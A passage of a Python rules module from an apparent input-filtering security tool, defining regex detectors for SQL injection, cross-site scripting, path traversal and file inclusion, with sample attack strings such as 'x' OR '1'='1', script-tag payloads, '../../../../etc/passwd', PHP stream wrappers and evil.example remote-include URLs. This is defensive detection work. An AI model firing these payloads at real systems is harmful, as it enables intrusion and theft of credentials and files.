"""Values that attack whatever interprets them: browsers, databases, templates, parsers, shells behind a web form.

These rules hear what an action *passes on* (arguments of tools, URLs, paths), not what is said, searched for or
written into a file.  Each family comes in two strengths:

``web.<family>``           what is an attack wherever it arrives; under every profile
``web.<family>.suspected`` what is one in a form field, but may be code, a template or a note elsewhere; ``strict`` only

All patterns look at the form ``web`` (:func:`intentshield.text.web`): lower case, encodings undone, SQL comments
gone.  Those about the encoding itself look at ``plain``.

Sources: OWASP Web Security Testing Guide and Cheat Sheet Series, the CWE entries cited, RFC 4515 (LDAP filters),
the manuals of MySQL, PostgreSQL, SQL Server, Oracle and MongoDB, PHP's "Supported Protocols and Wrappers", Apache
Log4j's "Lookups", the PyYAML and Java serialization documentation.
"""

from __future__ import annotations

from typing import Tuple

from ..model import Role, Severity
from . import TextRule

_HEARS = ("passed",)
_STRICT = ("strict",)
#: What a value can be in every profile; text and queries of tools count under ``strict`` only.
_VALUES = (
    Role.UNTYPED,
    Role.NAME,
    Role.URL,
    Role.HOST,
    Role.PATH,
    Role.MAIL,
    Role.ACCOUNT,
    Role.AMOUNT,
    Role.SECRET,
)
_ANY = (*_VALUES, Role.TEXT, Role.QUERY)
_ACTION = "frobnicate"


def _certain(family: str, title: str, patterns: Tuple[object, ...], **options: object) -> TextRule:
    """A rule for every profile."""
    return _rule(f"web.{family}", title, patterns, _VALUES, **options)


def _suspected(family: str, title: str, patterns: Tuple[object, ...], **options: object) -> TextRule:
    """A rule for ``strict``, where a key of unknown meaning is every sink at once."""
    return _rule(f"web.{family}.suspected", title, patterns, _ANY, profiles=_STRICT, **options)


def _rule(ident: str, title: str, patterns: Tuple[object, ...], roles: Tuple[Role, ...], **options: object) -> TextRule:
    common = {"form": "web", "hears": _HEARS, "roles": roles, "example_action": _ACTION, **options}
    return TextRule(ident, Severity.HIGH, title, patterns, **common)  # type: ignore[arg-type]


# -- SQL

_OR = r"(?:or|and|xor|having|where|\|\||&&)"
#: A quote that ends a string the value did not begin.
_STRAY = r"\A[^'\"\n]{0,80}(?<![^\w)%\\])['\"][\s)]{0,9}"
#: A value that is a whole statement is judged as one, not as an injection.
_NO_STATEMENT = r"\A(?!\s{0,9}(?:select|insert|update|delete|create|alter|drop|with|merge|grant|begin|declare|set|use|explain|truncate|exec)\b)"
_SQL_VERBS = r"(?:drop|delete|insert|update|alter|exec|execute|shutdown|truncate|create|declare|waitfor|select|grant|copy|merge|rename|replace|set|call|use|load|begin|if|handler|do)"
_STACKED = (
    r"(?:drop\s{1,9}(?:table|database|schema|user|view|function|procedure|index)\b|delete\s{1,9}from\b|insert\s{1,9}into\b"
    r"|update\s{1,9}\S{1,60}\s{1,9}set\b|alter\s{1,9}(?:table|user|login|role|database)\b|exec(?:ute)?[\s(]{1,9}(?:xp_|sp_|master|immediate|@|\()"
    r"|shutdown\b|truncate\s{1,9}table|declare\s{1,9}@|waitfor\s{1,9}(?:delay|time)|create\s{1,9}(?:table|user|login|role|function|or\s{1,9}replace)\b"
    r"|copy\s.{1,80}\bprogram\b|select\s.{0,60}?(?:sleep|benchmark|\bfrom\b|version|current_user|@@))"
)
_DELAYS = r"(?:pg_sleep|benchmark|sleep|dbms_lock\.sleep|dbms_session\.sleep|dbms_pipe\.receive_message|randomblob)"
_ERROR_FUNCTIONS = (
    r"\b(?:extractvalue|updatexml|gtid_subset|gtid_subtract|geometrycollection|multipolygon|multilinestring|linestring|xmltype|ctxsys\.drithsx\.sn|utl_inaddr\.get_host_(?:name|address)"
    r"|utl_http\.request|dbms_xdb\w{0,20}\.\w{1,40}|dbms_ldap\.init|dbms_xslprocessor|query_to_xml|lo_import|lo_export|load_file|xp_cmdshell|xp_dirtree|xp_fileexist|xp_regread|sp_oacreate|sp_makewebtask|openrowset|opendatasource)\s{0,4}\(?"
)

_SQL = (
    _certain(
        "sql-injection",
        "A value that changes the meaning of a SQL statement it is put into",
        (
            (
                "union",
                r"\bunion[\s(]{1,9}(?:all[\s(]{1,9}|distinct[\s(]{1,9})?select[\s(]{1,9}(?:null|\d|['\"@*(]|char|concat|unhex|version|database|user\b|group_concat|top\s|[\w.@]{1,60}\s{0,4},|.{0,120}?\bfrom\b)",
            ),
            (
                "'|\"|`|)|1|2|3",
                r"(?:['\"`)]|\b\d{1,9})\s{0,9}(?:or|and|xor|\|\||&&)[\s(!~+-]{1,9}(?:not\s{1,9})?['\"(]{0,2}(\w{1,20})['\")]{0,2}\s{0,9}(?:=|like\b|rlike\b|<=>|regexp\b)\s{0,9}['\"(]{0,2}\1\b",
            ),
            (
                "'",
                r"'\s{0,9}\)?\s{0,9}(?:or|and|xor|\|\||&&)\s{0,9}\(?'[^']{0,40}'?\s{0,9}(?:=|<|>|!=|like\b|between\b)\s{0,9}'",
            ),
            (
                "'|\"",
                r"['\"]\s{0,9}\)?\s{0,9}(?:or|\|\|)[\s(]{1,9}(?:not\s{1,9})?(?:\d{1,9}|true|false|exists)\s{0,9}(?:--|#|/\*|;|=|<|>|\Z)",
            ),
            ("--|#", r"\A[^'\"\n]{0,60}['\"][\s)]{0,9}(?:;\s{0,9})?(?:--|#)[\s+-]{0,9}\Z"),
            (";", _NO_STATEMENT + r"[^;]{0,200}?['\")\d]\s{0,9};\s{0,9}" + _STACKED),
            (
                "sleep|benchmark|receive_message|randomblob",
                r"(?:\b(?:and|or|xor|select|where|having|if|then|by|values?)\b|[|&=*,;)+-])[\s(]{0,9}(?:select[\s(]{1,9})?"
                + _DELAYS
                + r"\s{0,4}\(\s{0,4}['\"(]?\w",
            ),
            ("pg_sleep", r"\bpg_sleep\s{0,4}\("),
            (
                "waitfor",
                r"['\");\d]\s{0,9};?\s{0,9}(?:if\s?\(.{1,60}\)\s{0,9})?waitfor\s{1,9}(?:delay|time)\s{0,9}['\"(]",
            ),
            (
                "extractvalue|updatexml|gtid_|utl_|ctxsys|xp_cmdshell|openrowset|lo_import|load_file",
                r"(?:\b(?:and|or|select|union|exec|having|by)\b|['\"|=,;(+])[\s(]{0,9}(?:\d\s{0,4}[=,]\s{0,4})?(?:master\.{1,2}|dbo\.|sys\.)?"
                + _ERROR_FUNCTIONS,
            ),
            ("outfile|dumpfile", r"['\"\d*)]\s{1,9}into\s{1,9}(?:out|dump)file\b"),
            ("procedure", r"\bprocedure\s{1,9}analyse\s{0,4}\("),
            ("convert", r"\bconvert\s{0,4}\(\s{0,4}int\s{0,4},\s{0,4}\(?\s{0,4}(?:select|@@|db_name|user)"),
            (
                "select",
                r"['\")\d]\s{0,9}(?:\|\||\+|&&|\b(?:and|or|in|like|=))\s{0,9}[^\s'\"(]{0,20}\(\s{0,4}select\b.{1,200}?\b(?:from|sleep|end|then)\b",
            ),
        ),
        references=("CWE-89", "ATT&CK T1190"),
        matches=(
            "-1 UNION SELECT username, password FROM users",
            "1/**/uNiOn/**/aLl/**/sElEcT/**/null,null",
            "x' OR '1'='1",
            "1 or 1=1",
            "admin'--",
            "1; DROP TABLE users",
            "1' AND SLEEP(5)-- -",
            "1'; WAITFOR DELAY '0:0:5'--",
            "1%27%20OR%20%271%27%3D%271",
            "1' and extractvalue(1,concat(0x7e,version()))--",
        ),
        passes=(
            "O'Brien or D'Angelo",
            "the union selects its leaders",
            "SELECT id FROM t WHERE a = 1 OR b = 1",
            "time.sleep(5)",
            "it's 1 or 2",
            "'quoted' -- and then some text",
            "INSERT INTO t VALUES (1); DROP TABLE t_old",
        ),
    ),
    _suspected(
        "sql-injection",
        "A value with the marks of SQL injection",
        (
            (
                "union",
                r"(?:\bunion[\s(]{1,9}(?:all[\s(]{0,9}|distinct[\s(]{0,9})?(?:select|values)\b|['\"\d)]\s{0,9}union\b.{0,40}\bselect)",
            ),
            (
                ("or", "and", "having", "where", "&&", "||"),
                r"(?:\b|(?<=[|&]{2}))"
                + _OR
                + r"[\s(!~+-]{1,9}['\"`]?(\w{1,20})['\"`]?\)?\s{0,9}(?:=|<=>|like\b|rlike\b|regexp\b|is\b|in\b)\s{0,9}['\"`(]{0,3}\1\b",
            ),
            (
                "'|\"",
                _STRAY
                + r"(?:or|and|xor|\|\||&&|where|having)[\s(!~+-]{1,9}(?:not\s{1,9})?(?:['\"]?[\w@.%]{0,40}['\"]?[\s)]{0,9}(?:=|<|>|!|\*|--|#|/\*|(?:like|rlike|regexp|is|in|between|div|mod)\b)|['\"]?\d{1,9}['\"]?\s{0,9}\Z|(?:true|false|null)\s{0,9}\Z|['\"]{1,2}\s{0,4}[&|^*+-]|['\"]{1,2}\s{0,4}\Z|\w{1,30}\s?\()",
            ),
            (
                "'|\"",
                _STRAY
                + r"(?:(?:union|div|rlike|regexp|collate|sounds\s{1,9}like|procedure)\b|(?:order|group)\s{1,9}by\b|limit\s{1,9}\d|between\s{1,9}['\"\d]|in\s{0,4}\(|like\s{0,9}['\"(%]|is\s{1,9}(?:not\s{1,9})?null|(?:<=>|!=|<>|[\^])\s{0,4}['\"\d(])",
            ),
            (
                ("or", "and", "||", "&&"),
                r"(?:\A|[\s\d'\")])(?:or|and|xor|\|\||&&)\s{0,9}[\s(!+~-]{1,9}\(?['\"]?\d{1,9}['\"]?\)?\s{0,9}(?:=|<|>|!=|<>|<=>|like\b|between\b|in\s?\(|is\b|div\b|mod\b|[-+*/^&|]\s?\d)",
            ),
            (
                "or|and|having",
                r"\A['\"\s)\d-]{1,20}(?:or|and|having)\s{1,9}(?:not\s{1,9})?(?:\d{1,9}|true|false|null)\b",
            ),
            (
                "--|#|/*|;",
                _STRAY + r"(?:--|#|/\*|;\s{0,9}(?:--|#|\Z|" + _SQL_VERBS + r"\b))",
            ),
            (
                "--|#|/*",
                r"\b(?:or|and|by|where|like|limit|having|union|null|=)\s{0,9}['\"(\d].{0,80}?(?:--[\s+-]{0,3}\Z|#\s{0,3}\Z|/\*|--\s?-)|\A-?\d{1,9}\s{0,9}\)?\s{0,9}(?:--\s?-?|#|/\*)",
            ),
            (
                ";",
                r"['\")\d\w]\s{0,9};\s{0,9}(?:"
                + _STACKED
                + r"|"
                + _SQL_VERBS
                + r"\s{1,9}[\w@'\"(*]{1,60}\s{0,9}(?:\(|--|;|\Z|'|=))",
            ),
            (
                "sleep|benchmark|receive_message|delay|randomblob|generate_series|heavy",
                r"(?<![\w.])" + _DELAYS + r"\s{0,4}\(\s{0,4}['\"(]?\w|\bwaitfor\s{1,9}(?:delay|time)\b",
            ),
            (
                "extractvalue|updatexml|gtid_|geometry|linestring|polygon|xmltype|ctxsys|utl_|dbms_|query_to_xml|lo_|load_file|xp_|sp_|open",
                _ERROR_FUNCTIONS,
            ),
            ("into", r"\binto\s{1,9}(?:out|dump)file\b"),
            ("procedure", r"\bprocedure\s{1,9}analyse\b"),
            (
                "order|group",
                r"['\")\d]\s{0,9}(?:order|group)\s{1,9}by\s{1,9}(?:\d{1,5}|[\w.,(]{1,60})\s{0,9}(?:--|#|/\*|;|\Z|,|having\b|limit\b|asc\b|desc\b)|\A\W{0,3}(?:order|group)\s{1,9}by\s{1,9}\d{1,5}\b",
            ),
            ("having", r"\bhaving\s{1,9}(?:\d|count|sum|max|min|'|\()"),
            (
                "select",
                r"(?:[(=|,+]|\b(?:and|or|in|if|exists|all|any)\b)\s{0,9}\(\s{0,9}select\b|\bselect[\s(]{1,9}(?:@@|\*\s{0,9}from|(?:user|version|database|schema|current_user|system_user|session_user|concat|group_concat|char|load_file|case|if|count|sleep|pg_sleep|null|substr|ascii|hex|unhex|cast|convert|length|banner)\b.{0,80}?(?:\(|from|,|\Z))",
            ),
            ("case", r"\bcase\s{1,9}when\b.{1,160}?\bthen\b"),
            (
                "(",
                r"\b(?:and|or|xor|select|where|having|by|not|=|<|>|\|\||&&)[\s(]{1,9}(?:ascii|substr|substring|mid|length|ord|char_length|hex|unhex|if|iif|exists|left|right|lpad|cast|convert|concat|concat_ws|count|make_set|elt|strcmp|bin|row|bit_count|nullif|ifnull|coalesce|lower|upper|instr|locate|position)\s{0,4}\(",
            ),
            (
                "information_schema|sysobjects|syscolumns|sysdatabases|sysusers|sys.|pg_|mysql.|sqlite_|all_tables|user_tables|all_tab|dba_|v$|msys|@@|xp_|from dual|master..",
                r"\binformation_schema\b|\bsys(?:objects|columns|databases|users|processes|logins)\b|\bsys\.(?:tables|objects|databases|columns|user\$|user_tables|schemas|syslogins|sql_logins)\b|\bpg_(?:catalog|shadow|user|tables|database|class|roles|read_file|ls_dir)\b|\bmysql\.(?:user|db|innodb)\b|\bsqlite_(?:master|version|schema)\b|\b(?:all|user|dba)_(?:tables|tab_columns|users|objects)\b|\bv\$(?:version|instance|session)\b|\bmsysobjects\b|@@(?:version|datadir|hostname|basedir|global|servername|identity|pack_received|rowcount|\w{3,30}_\w{3,30})|\bfrom\s{1,9}dual\b|\bmaster\.{1,2}\w",
            ),
            (
                "char(|chr(|nchar(|0x|x'|concat",
                r"\b(?:n?char|chr)\s{0,4}\(\s{0,4}(?:0x[0-9a-f]{2}|\d{2,3})\s{0,4}(?:[,)]).{0,4}(?:[,|+&]|\Z)|(?:=|\bor\b|\band\b|\blike\b|select|,|\()\s{0,9}(?:0x[0-9a-f]{6,}|x'[0-9a-f]{4,}')|\b(?:group_)?concat(?:_ws)?\s{0,4}\(\s{0,4}(?:0x|char|'|\w{1,30}\s{0,4},|@@)",
            ),
            (
                "'|\"",
                r"\A\s{0,4}['\"]{1,2}\s{0,4}(?:\Z|[=^*&|/+-]\s{0,4}['\"\d(]|[=^*&/-]|\|\||;|--|#)|\w'\s{0,4}(?:\|\||\+)\s{0,4}'\w|'\s{0,4}(?:\|\||\+)\s{0,4}(?:\(|\w{2,30}\s{0,2}\()|'\)\s{0,9}(?:or|and|;|--|union)",
            ),
            (
                "is|between|like|in |in(|regexp",
                r"\b(?:or|and)\s{1,9}[\w'\"().]{1,40}\s{1,9}(?:is\s{1,9}(?:not\s{1,9})?null|between\s{1,9}['\"\d]|like\s{0,9}['\"(%]|in\s{0,4}\(|r?like\s{0,9}['\"(]|regexp\s{0,9}['\"(^])",
            ),
            (
                "password|username|email|user|id|name|1",
                r"['\")\d]\s{1,9}(?:or|and)\s{1,9}(?:password|passwd|pwd|username|user_?id|userid|email|id|name|uname|login)\s{0,4}(?:=|like\b|<|>|!=|is\b)",
            ),
            ("drop", r"\bdrop\s{1,9}(?:table|database|schema)\s{1,9}(?:if\s{1,9}exists\s{1,9})?[`\"\[]?\w"),
            (
                "limit",
                r"['\")\d]\s{1,9}limit\s{1,9}\d{1,9}\s{0,9}(?:,\s{0,9}\d{1,9}|offset\s{1,9}\d{1,9})?\s{0,9}(?:--|#|;|\Z|union)",
            ),
            (
                "@|if",
                r"\A[^a-z@]{0,9}@{1,2}\w{1,40}\s{0,4}:?=\s{0,4}(?:\(|'|\d)|\bif\s{0,4}\(\s{0,4}[\w'@(]{1,60}.{0,60},\s{0,4}[^,]{1,60},\s{0,4}[^,)]{1,60}\)",
            ),
            (
                "{",
                r"\{\s{0,4}(?:f|ts|d|t|\w{1,3}`\w{0,20}`)\s{0,4}\(|\{\s{0,2}\w{1,10}\s{1,4}(?:password|username|id|user)\b",
            ),
        ),
        references=("CWE-89", "ATT&CK T1190"),
        matches=(
            "1 union select 2",
            "' or 1 -- -",
            "1 order by 10--",
            "1 and ascii(substr(user(),1,1))>64",
            "'||(select 1)||'",
            "' and 1=(select count(*) from information_schema.tables)",
            "'='",
            ("frobnicate", {"comment": "x' or 'a'='a"}),
        ),
        passes=(
            "The union selects its leaders",
            "rock 'n' roll and blues",
            "select the best one or none",
            "Mary's and John's bikes",
            "order by phone",
            "It is 1 or 2",
        ),
    ),
)

# -- browsers

_ON = r"on(?:error|load|click|mouse\w{2,6}|focus\w{0,3}|blur|key\w{2,5}|toggle|start|begin|end|finish|bounce|scroll\w{0,4}|wheel|submit|change|input|invalid|reset|select\w{0,6}|drag\w{0,5}|drop|copy|cut|paste|before\w{2,12}|after\w{2,12}|hashchange|message|page\w{4}|popstate|resize|unload|storage|animation\w{3,9}|transition\w{3,9}|pointer\w{2,18}|touch\w{3,6}|readystatechange|canplay\w{0,7}|durationchange|ended|loaded\w{3,8}|play\w{0,3}|progress|timeupdate|volumechange|auxclick|contextmenu|dblclick|search|show|cancel|close|cuechange|gotpointercapture|activate|filterchange|propertychange|repeat|zoom|webkit\w{5,40}|content\w{5,40}|formdata|fullscreen\w{4,6}|security\w{5,20}|slotchange|ratechange|seeked|seeking|stalled|suspend|waiting|emptied|abort|loadstart|location|rejection\w{0,9}|unhandled\w{5,15}|offline|online|language\w{0,7})"
_SINKS = r"(?:alert|prompt|confirm|eval|fetch|document|window|top|self|parent|frames|globalthis|this|import|location|settimeout|setinterval|string|atob|console|navigator|xmlhttprequest|new\s|function|\(|\[|javascript|throw|print|\$|_=|\w{1,20}\s?=\s?\w|\w{1,20}[(`])"
_TELLTALE = r"\bprint\s{0,4}\(\)|(?:alert|prompt|confirm)(?:\)|/|\?\.|\.call|\.apply|\.bind|\.constructor)?(?:[(`]|\s{1,4}(?:`|\(\s{0,4}['\"`/\d]))|document\s{0,4}[.\[]\s{0,4}['\"]?(?:cookie|domain|write|location|body|url|referrer|createelement)|(?:window|self|top|parent|frames|this|globalthis)\s{0,4}\[\s{0,4}['\"/a-z(]|\blocation\s{0,4}=|\.location\b|\beval\s{0,4}[(`]|string\s{0,2}\.\s{0,2}fromcharcode|localstorage\s?[.\[]|\bsettimeout\s{0,4}[(`]|\batob\s{0,4}\(|fetch\s{0,4}\(\s{0,4}['\"`/]"

_XSS = (
    _certain(
        "script",
        "A value that runs script in the browser that shows it",
        (
            (
                "<script|<\u2400script",
                r"<\u2400?script\b[^>]{0,200}>\s{0,20}[^<]{0,300}?(?:" + _TELLTALE + r")",
            ),
            ("<script", r"['\"]\s{0,4}/?>\s{0,20}<script\b"),
            (
                "on",
                r"<[a-z!/?][^<>]{0,300}?[\s/'\"\u2400]"
                + _ON
                + r"\s{0,9}=\s{0,9}['\"`]?\s{0,9}[^>\s]{0,100}?(?:"
                + _TELLTALE
                + r")",
            ),
            (
                "on",
                r"['\"`]\s{0,9}(?:/?>)?[\s/]{0,9}\b" + _ON + r"\s{0,9}=\s{0,9}['\"`]?\s{0,9}(?:" + _TELLTALE + r")",
            ),
            (
                "javascript|vbscript|script",
                r"(?:[=:'\"(\s]|\A)j\s{0,3}a\s{0,3}v\s{0,3}a\s{0,3}s\s{0,3}c\s{0,3}r\s{0,3}i\s{0,3}p\s{0,3}t\s{0,3}:[^\n]{0,80}?(?:"
                + _TELLTALE
                + r")|(?:[=:'\"(\s]|\A)vbscript\s{0,4}:\s{0,4}\w{1,20}[\s(]",
            ),
            ("data:", r"(?:src|href|data|action|url)\s{0,4}[=(]\s{0,4}['\"]?\s{0,4}data:text/html"),
            ("srcdoc", r"<iframe\b[^<>]{0,200}?\bsrcdoc\s{0,4}=\s{0,4}['\"]?\s{0,4}<(?:script|svg|img)"),
            ("[]", r"\[\]\s{0,2}\[\s{0,2}\(?\s{0,2}!\s{0,2}\[\]|\[\]\[\(!\[\]|!\[\]\s?\+\s?\[\]\)\["),
        ),
        references=("CWE-79", "ATT&CK T1189"),
        matches=(
            "<script>alert(document.cookie)</script>",
            "<img src=x onerror=alert(1)>",
            "%3Csvg%2Fonload%3Dalert(1)%3E",
            '"><script src=//evil.example/x.js></script>',
            '" onfocus="alert(1)" autofocus="',
            "jav&#x09;ascript:alert(1)",
            "&lt;img src=x onerror=&#97;lert(1)&gt;",
        ),
        passes=(
            "<script src='https://cdn.example.com/app.js'></script>",
            "<button onclick={() => save()}>Save</button>",
            "JavaScript: the good parts",
            "a < b and c > d",
            '<a href="https://example.com/">docs</a>',
            "Please confirm (by mail) the location",
        ),
    ),
    _suspected(
        "script",
        "A value with the marks of script for a browser",
        (
            ("script", r"<[\s/\u2400]{0,3}script\b|</\s{0,4}script|\bscript\s{0,4}>"),
            ("on", r"<[a-z!/?][^<>]{0,300}?[\s/'\"\u2400;]" + _ON + r"\s{0,9}="),
            ("on", r"(?:\A|['\"`\s/])" + _ON + r"\s{0,9}=\s{0,9}['\"`]?\s{0,9}" + _SINKS),
            (
                "<",
                r"<(?:iframe|object|embed|applet|base|svg|math|link|meta|form|frameset|frame|layer|bgsound|isindex|xss|marquee|style|xml|foreignobject|template|portal|body|input|button|video|audio|details|img|image|a|animate|set|use|area|keygen|noscript|textarea|title|select)\b[^<>]{0,200}?(?:(?:src|data|href|action|formaction|xlink:href|content|poster|code|background|dynsrc|lowsrc|classid|values?|to|from|srcdoc)\s{0,4}=\s{0,4}['\"]?\s{0,4}(?:javascript|vbscript|data:(?!image/(?:png|gif|jpe?g|webp))|j\s?a\s?v\s?a|\d{1,3};\s?url=|&)|autofocus|contenteditable|http-equiv|style\s{0,4}=\s{0,4}['\"]?[^'\"]{0,80}(?:expression|url\s?\(|behavior|binding|animation))",
            ),
            (
                "<",
                r"<(?:iframe|object|embed|applet|base|meta|frameset|frame|layer|bgsound|isindex|xss|marquee|style|portal|svg|math)\b[\s/>]",
            ),
            (
                "<",
                r"\A[^<'\"]{0,80}['\"]\s{0,4}/?>\s{0,4}(?:<|\w{1,20}<)|</(?:title|textarea|style|noscript|template|xmp|iframe)\s{0,4}>\s{0,4}<|<!--\s?[#\[-]{0,3}(?:exec|include|#|\[if)|<!\[cdata\[",
            ),
            (
                "script:|vbs|livescript",
                r"(?:javascript|vbscript|livescript|mocha)\s{0,9}:(?:\S|\s{0,9}[\w.]{1,40}\s{0,4}[(=\[`])|j\s{0,3}a\s{0,3}v\s{0,3}a\s{0,3}s\s{0,3}c\s{0,3}r\s{0,3}i\s{0,3}p\s{0,3}t\s{0,3}:[^\s]",
            ),
            (
                "script",
                r"(?:href|src|action|formaction|xlink:href|url|background|style)\s{0,4}[=(:]\s{0,4}[\"']?\s{0,4}(?:javascript|vbscript|data:text/html)\s{0,4}[:,;]",
            ),
            (
                "data:",
                r"\bdata:(?:text/html|image/svg\+?xml|application/x?html|text/xml|application/xml|text/javascript|application/javascript|;base64|[^,\s]{0,40}base64,pd)",
            ),
            ("(|`|document|location|eval|string|atob|window|top|self|parent|frames|this", _TELLTALE),
            (
                "expression|binding|behavior|import",
                r":\s{0,4}expression\s{0,4}\(|-moz-binding\s{0,4}:|behaviou?r\s{0,4}:\s{0,4}url|@import\s{0,4}['\"u]",
            ),
            (
                "constructor",
                r"\bconstructor\s{0,4}[.\[(]['\"]?\s{0,4}(?:constructor|\(|prototype|\"|')|\$eval\s?\(|\$on\.constructor|ng-(?:app|init|focus|click|csp)\b",
            ),
            ("[", r"\[\]\s{0,2}\[|!\s?\[\]|\(\s?!!?\s?\[\]|\[\s?['\"](?:al|ev|co|pro)\w{0,8}['\"]\s?\+"),
            (
                "innerhtml|outerhtml|insertadjacent|execscript|crypto.generatecrmf|registerns",
                r"\b(?:innerhtml|outerhtml|insertadjacenthtml|execscript|createcontextualfragment)\b",
            ),
            (" adw", r" adw-(?:\w{2,12}| )"),
            (
                "';|\";|'-|\"-|'+|\"+|`|'(|*/|' |\" ",
                r"['\"]\s{0,4}(?:[;+*-]|\)\s{0,2};?)\s{0,4}(?:alert|prompt|confirm|eval|print|document|window|self|top|this|location|\[|function|fetch|new\b|var\b|import\b)|</?\w{1,20}\s?/?>\s?['\"]\s?[;+]",
            ),
        ),
        references=("CWE-79", "ATT&CK T1189"),
        matches=(
            "<script src=//evil.example/x.js>",
            "<svg onload=go()>",
            "javascript:go()",
            "<iframe src=//evil.example>",
            "';alert(1)//",
            "\\u003cscript\\u003e",
            "data:text/html;base64,PHNjcmlwdD4=",
        ),
        passes=(
            "The script is a shooting script",
            "a < b and c > d",
            "We document cookies in the manual",
            '<a href="https://example.com/">docs</a>',
            '<img src="logo.png" alt="Logo">',
            "Price alert (weekly)",
            "<details><summary>More</summary></details>",
        ),
    ),
)

# -- files

_SENSITIVE = r"(?:etc/(?:passwd|shadow|group|hosts|issue|motd|fstab|crontab|sudoers|ssh/|nginx/|apache2?/|httpd/|mysql/|my\.cnf|resolv\.conf|profile|php)|proc/(?:self|version|cmdline|\d{1,7}/|net/|mounts|cpuinfo)|var/log/(?:apache|httpd|nginx|auth|syslog|messages|secure|mail)|root/\.|home/\w{1,30}/\.|windows[/\\](?:win\.ini|system32|system\.ini|repair|debug|panther)|winnt[/\\]|boot\.ini|inetpub[/\\]|web-inf[/\\]|web\.config|wp-config\.php|\.ssh[/\\]|\.htpasswd|\.htaccess|\.git/(?:config|head)|\.svn/entries|\.aws/credentials|autoexec\.bat|global\.asax|usr/local/apache|opt/lampp|xampp[/\\])"

_FILES = (
    _certain(
        "path-traversal",
        "A path that climbs out of its directory to files every attacker asks for",
        (
            (
                "..",
                r"\.\.[/\\]{1,9}(?:[\w.-]{1,40}[/\\]{1,9}){0,12}" + _SENSITIVE,
            ),
            ("..;", r"(?:\.\.;[/\\]){1,9}"),
            ("....//|....\\\\|..././", r"\.{4}[/\\]{2}|\.\.\./\./"),
            ("\u2400", r"(?:[/\\]|\.\w{2,5})[^\n\u2400]{0,200}\u2400"),
        ),
        references=("CWE-22", "CWE-73"),
        matches=(
            "../../../../etc/passwd",
            "..%252f..%252f..%252fetc%252fpasswd",
            "..%c0%af..%c0%afetc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "/static/..;/manager/html",
            "....//....//etc/passwd",
            "invoice.pdf%00.jpg",
        ),
        passes=("../src/index.ts", "../../package.json", "a..b/c", "see etc/passwd", "..."),
    ),
    _certain(
        "path-traversal.encoded",
        "A path that hides its climb behind an encoding",
        (
            r"(?:%(?:25){0,3}2e|%(?:25){0,3}c0%(?:25){0,3}[a2]e|%(?:25){0,3}e0%(?:25){0,3}80%(?:25){0,3}ae|%u002e|%uff0e|\.){2,4};?(?:%(?:25){0,3}(?:2f|5c)|%(?:25){0,3}c0%(?:25){0,3}[a2]f|%(?:25){0,3}c1%(?:25){0,3}[19]c|%(?:25){0,3}e0%(?:25){0,3}80%(?:25){0,3}af|%u221[56]|%u002f|%u005c|%bg%qf|0x2f|0x5c)",
            r"(?:%(?:25){0,3}2e|%c0%ae|%e0%80%ae|%uff0e){2}[/\\]|%2e\.[/\\]|\.%2e[/\\]|0x2e0x2e|%252e%252e",
        ),
        form="plain",
        anchors=("%", "0x2"),
        references=("CWE-22", "CWE-177"),
        matches=("%2e%2e%2fsecret.txt", "..%255c..%255cboot", "%c0%ae%c0%ae/x", "%uff0e%uff0e%u2215x", "..%2fx"),
        passes=("100%..2f", "a%20b..c", "https://example.com/?q=1.5%2f2", "notes%2e.txt"),
    ),
    _suspected(
        "path-traversal",
        "A path that climbs out of its directory, or one that every attacker asks for",
        (
            (
                "..",
                r"\A\S{0,200}?(?:(?:\.\.[/\\]{1,9}){2}|(?:[/\\=:?&]|\A)\.\.[/\\]{1,3}\.{0,2}[/\\]?\w{0,40}\.\.[/\\]|[/\\]\.\.(?:[/\\;]|\Z)|\.{3,9}[/\\])",
            ),
            ("/|\\|.", r"(?:\A|[/\\=:@\s'\"(,|])" + _SENSITIVE),
            ("\u2400", r"\u2400"),
            (
                "c:|d:",
                r"(?:\A|[=\s'\"])[c-e]:[/\\]{1,2}(?:windows|winnt|boot|inetpub|xampp|autoexec|apache)",
            ),
            (
                ".",
                r"(?:\A|[/\\=])\.(?:env|git|svn|hg|htaccess|htpasswd|bash_history|ssh|aws|npmrc|dockerenv|ds_store|bashrc|mysql_history)(?:[/\\.]|\Z)|(?:wp-config|config|configuration|settings|database)\.(?:php|inc)(?:\.(?:bak|old|save|swp)|~|\Z)",
            ),
        ),
        references=("CWE-22", "CWE-23", "CWE-36"),
        matches=("../../secret.txt", "file=/etc/shadow", "..\\..\\boot.ini", ".git/config"),
        passes=("../readme.md", "and/or", "etc. etc.", "wait... what?", "docs/index.md"),
    ),
    _certain(
        "inclusion",
        "A value that makes an include read through a stream wrapper",
        (
            (
                "://",
                r"\b(?:php://(?:filter|input|stdin|fd|memory|temp)|expect://|phar://|zlib://|glob://[/\w.]|ogg://|rar://|compress\.(?:zlib|bzip2)://|ssh2\.\w{1,9}://|zip://[^\s]{1,200}(?:#|%23)|netdoc:|jar:(?:file|https?|ftp):)",
            ),
            ("data:", r"\bdata:(?://)?text/plain[;,][^\s]{0,40}?(?:base64,|<\?|system|php)|data://"),
            (
                ".php?|.txt?|.jpg?|.gif?|.inc?|=http|=ftp",
                r"(?:https?|ftps?)://[^\s]{1,200}(?:shell|c99|r57|cmd|backdoor|evil|attack|rfi|pwn|exploit|webshell|b374k|wso)\w{0,12}\.(?:txt|php\d?|jpg|gif|png|inc|asp|aspx|jsp)\?",
            ),
        ),
        references=("CWE-98", "CWE-73"),
        matches=(
            "php://filter/convert.base64-encode/resource=index.php",
            "expect://id",
            "data://text/plain;base64,PD9waHA=",
            "http://evil.example/shell.txt?",
        ),
        passes=("https://www.php.net/manual/en/wrappers.php.php", "zip://", "I expect: nothing", "data: text"),
    ),
    _suspected(
        "inclusion",
        "A value that makes an include fetch a file from elsewhere",
        (
            ("://", r"(?:https?|ftps?)://(?:\d{1,3}\.){3}\d{1,3}(?:[:/]|\Z)"),
            (
                "://",
                r"(?:https?|ftps?|smb|ldap|gopher|dict|tftp|file|php|sftp|netdoc|nfs|svn|imap)://[^\s]{1,300}\?{1,3}\Z",
            ),
            (
                "://",
                r"(?:https?|ftps?)://[^\s]{1,200}\.(?:txt|inc|jpe?g|gif|png|dat|php\d?|phtml|asp|aspx|jsp|cgi|pl|sh|py|cfm)(?:\?{1,3}(?:\Z|&|#|(?:cmd|c|exec|command|x|e)=(?:\w{0,20}\Z|ls|id|cat|uname|who))|\u2400|%00|;)",
            ),
            (
                "=http|=ftp|=php|=data|=file|=//|=https|= http",
